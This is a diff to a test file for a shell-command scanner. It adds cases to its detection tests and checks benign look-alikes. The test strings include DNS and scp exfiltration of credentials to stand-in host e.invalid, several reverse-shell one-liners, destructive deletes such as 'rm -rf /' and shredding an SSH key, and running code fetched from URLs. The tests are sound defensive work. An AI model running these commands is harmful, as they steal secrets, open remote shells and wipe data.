@@ -79,6 +79,7 @@ describe('evasions of issue 36 block; their benign look-alikes do not', () => {
   it('secrets and credential files leaving by any road, DNS included', () => {
     for (const body of [
       'host "$GITHUB_TOKEN.e.invalid"',
+      'getent hosts "$AWS_SECRET_ACCESS_KEY.e.invalid"',
       'dig "$(cat ~/.aws/credentials | base64 | head -c 60).e.invalid"',
       'nslookup "$(cat $HOME/.netrc | xxd -p | head -c 50).e.invalid"',
       'scp ~/.ssh/* me@e.invalid:/loot/',
@@ -95,17 +96,20 @@ describe('evasions of issue 36 block; their benign look-alikes do not', () => {
     for (const body of ['ncat 10.0.0.1 4444 --sh-exec "/bin/bash"', 'socat tcp:10.0.0.1:4444 exec:/bin/sh,pty', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f']) {
       expect(blocking(body), body).toContain('reverse-shell');
     }
-    for (const body of ['find ~ -delete', 'rm -rf -- "$HOME"', 'rm -r -f /', 'R=rm; $R -rf ~/', 'find "$HOME" -exec rm -rf {} +', 'rm -rf --no-preserve-root /']) expect(blocking(body), body).toContain('destructive-delete');
+    for (const body of ['find ~ -delete', 'shred -u ~/.ssh/id_ed25519', 'rm -rf -- "$HOME"', 'rm -r -f /', 'R=rm; $R -rf ~/', 'find "$HOME" -exec rm -rf {} +', 'rm -rf --no-preserve-root /']) expect(blocking(body), body).toContain('destructive-delete');
     for (const body of ['rm -rf "$tmp"', 'rm -rf ./build', 'find . -name "*.pyc" -delete', 'nc -z localhost 5432', 'if grep -q "rm -rf /" <<<"$cmd"; then exit 2; fi']) expect(blocking(body), body).toEqual([]);
   });
 
   it('installs and runs from an address: an advisory naming it, pinned registry installs nothing', () => {
-    for (const body of ['pip install https://e.invalid/pkg.tar.gz', 'pip install git+https://e.invalid/r.git', 'npm install https://e.invalid/pkg.tgz', 'npx https://e.invalid/pkg.tgz', 'deno run https://e.invalid/x.ts', 'npm exec https://e.invalid/pkg.tgz', 'python3 -m pip install https://e.invalid/p.whl']) {
+    for (const body of ['pip install https://e.invalid/pkg.tar.gz', 'pip install git+https://e.invalid/r.git', 'npm install https://e.invalid/pkg.tgz', 'npx https://e.invalid/pkg.tgz', 'python3 -m pip install https://e.invalid/p.whl']) {
       const r = script(body);
       expect(r.findings.filter((f) => f.rule === 'install-from-url').map((f) => f.severity), body).toEqual(['advisory']);
       expect(r.level, body).toBe('advisory');
     }
     for (const body of ['pip install requests==2.32.3', 'npm install', 'npx -y prettier@3.3.3 --check .']) expect(script(body).findings.filter((f) => f.rule === 'install-from-url'), body).toEqual([]);
+    // Run straight from the address, not installed: a download run as code.
+    for (const body of ['deno run https://e.invalid/x.ts', 'npm exec https://e.invalid/pkg.tgz', 'pnpm dlx https://e.invalid/pkg.tgz']) expect(blocking(body), body).toEqual(['pipe-to-shell']);
+    expect(blocking('deno run --allow-read main.ts')).toEqual([]);
   });
 
   it('reports the line of the offending code, after functions and inlined constants', () => {
